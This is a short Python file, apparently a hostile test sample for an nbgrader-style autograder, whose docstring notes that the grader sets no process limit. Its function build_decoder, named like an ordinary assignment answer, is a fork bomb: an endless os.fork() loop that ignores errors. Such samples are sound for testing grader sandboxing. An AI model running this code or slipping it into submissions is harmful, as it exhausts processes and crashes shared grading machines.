"""Forks without end.

heavy: forks without end; nbgrader sets no limit on processes
"""
# ruff: noqa

# %% build_decoder
import os


def build_decoder(index):
    while True:
        try:
            os.fork()
        except OSError:
            pass
